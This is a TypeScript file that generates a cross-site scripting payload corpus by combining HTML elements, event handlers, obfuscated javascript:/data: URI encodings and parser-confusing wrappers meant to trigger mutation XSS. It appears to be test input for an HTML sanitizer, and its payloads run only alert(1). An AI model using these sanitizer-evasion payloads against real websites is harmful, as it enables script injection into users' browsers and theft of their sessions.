/*
 * Payloads by combination: what acts × where it stands × how it is written × what is around it.
 */
const code = 'alert(1)';
const split = (words: string) => words.split(' ');

const elements = split(
  'a abbr article aside audio b blockquote body br button canvas caption center col dd details dialog div dl dt em embed fieldset figure font footer form frameset h1 header hr html iframe img input kbd label legend li link main map mark marquee menu meter nav object ol optgroup option output p pre progress q s section select slot small span strong style sub summary sup table tbody td template textarea th tr u ul var video x-y svg svg><g svg><a svg><animate svg><image svg><foreignObject svg><use svg><text math math><mi math><mtext math><annotation-xml',
);
const events = split(
  'onerror onload onclick onfocus onmouseover onpointerover ontoggle onanimationstart onbegin onwheel oncopy ontransitionend onbeforeinput onscrollend onpagereveal onsecuritypolicyviolation',
);

/** An event handler on every element, quoted and unquoted, in either case. */
const handlers = elements.flatMap((element) =>
  events.map((event, i) => {
    const handler = [
      `${event}=${code}`,
      `${event.toUpperCase()}="${code}"`,
      `x='>'${event}='${code}'`,
      `/${event}\n=\n${code}//`,
    ][i % 4]!;
    return `<${element} src=x href=x tabindex=1 autofocus ${handler}>x</${element.replace(/.*</, '')}>`;
  }),
);

const addressed = split(
  'a·href area·href base·href link·href img·src img·srcset img·lowsrc input·src iframe·src iframe·srcdoc frame·src embed·src object·data script·src video·poster video·src source·srcset track·src form·action button·formaction blockquote·cite q·cite del·cite td·background p·style svg><a·xlink:href svg><use·href svg><image·href math·href',
).map((pair) => pair.split('·') as [element: string, attribute: string]);
const encodings: readonly ((scheme: string) => string)[] = [
  (scheme) => `${scheme}:${code}`,
  (scheme) => `${scheme.toUpperCase()}:${code}`,
  (scheme) => ` \t\n${scheme}:${code}`,
  (scheme) => `\x01${scheme}:${code}`,
  (scheme) => `&#8203;${scheme}:${code}`,
  (scheme) => `${scheme.slice(0, 3)}\t${scheme.slice(3)}:${code}`,
  (scheme) => `${scheme.slice(0, 3)}&NewLine;${scheme.slice(3)}&colon;${code}`,
  (scheme) => `${[...scheme].map((c) => `&#x${c.charCodeAt(0).toString(16)};`).join('')}:${code}`,
  (scheme) => `${[...scheme].map((c) => `&#0000${c.charCodeAt(0)}`).join('')}:${code}`,
  (scheme) => `${encodeURIComponent(`${scheme}:`)}${code}`,
  (scheme) => `${scheme}://%0a${code}`,
  (scheme) => `x:${scheme}:${code}`,
  (scheme) => `${scheme}\u2028:${code}`,
  (scheme) => `\u00a0${scheme}&Tab;:${code}`,
];
const written = split('javascript vbscript livescript view-source:javascript')
  .flatMap((scheme) => encodings.map((write) => write(scheme)))
  .concat(
    `data:text/html,<script>parent.${code}</script>`,
    `DATA:text/html;base64,PHNjcmlwdD5wYXJlbnQuYWxlcnQoMSk8L3NjcmlwdD4=`,
    `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='parent.${code}'/>`,
    `&lt;img src=x onerror=parent.${code}&gt;`,
    `url(javascript:${code})`,
  );

/** Every attribute that holds an address, with every scheme that acts, in every writing. */
const addresses = addressed.flatMap(([element, attribute]) =>
  written.map(
    (address) => `<${element} ${attribute}="${address}">x</${element.replace(/.*</, '')}>`,
  ),
);

/** Elements in which the parser reads by other rules, and other places that it leaves at moments of its own. */
const surroundings = split(
  'noscript svg svg><desc svg><style math math><mtext math><mtext><mglyph><style table table><tr select select><option template style title textarea xmp iframe noembed noframes plaintext listing form><form b><i><p',
)
  .map((names): readonly [open: string, close: string] => [
    `<${names}>`,
    `</${names.split('><').toReversed().join('></')}>`,
  ])
  .concat([
    ['<!--', '-->'],
    ['<![CDATA[', ']]>'],
    ['<?', '?>'],
    ['<a title="', '">'],
    ["<img alt='", "'>"],
    ['<p>'.repeat(300), ''],
    ['<a href="/x/"><table><a>', '</a></table></a>'],
  ]);
const acting = [
  `<img src=x onerror=${code}>`,
  `<script>${code}</script>`,
  `<svg onload=${code}>`,
  `<iframe srcdoc="<script>parent.${code}</script>">`,
  `<a href="javascript:${code}">x</a>`,
  `<details open ontoggle=${code}>`,
  `<math><mi href="javascript:${code}">`,
  `<style><img title="</style><img src onerror=${code}>"></style>`,
  `<!--><img src=x onerror=${code}>`,
  `<form action="javascript:${code}"><button autofocus>x</button></form>`,
  `<object data="javascript:${code}"></object>`,
  `<meta http-equiv=refresh content="0;url=javascript:${code}">`,
  `<video><source onerror=${code}></video>`,
];

/** Inside each place, after it was left, and in a name of an attribute; once more within another place. */
const nested = surroundings.flatMap(([open, close], i) =>
  acting.flatMap((act, j) => {
    const [outer, after] = surroundings[(i * 7 + j * 3 + 1) % surroundings.length]!;
    return [
      `${open}${act}${close}`,
      `${open}${close}${act}`,
      `${open}<p title="${close}${act.replaceAll('"', "'")}">`,
      `${outer}${open}${act}${close}${after}`,
      `${outer}${open}${after}${act}${close}`,
    ];
  }),
);

export const generated: readonly string[] = [...handlers, ...addresses, ...nested];
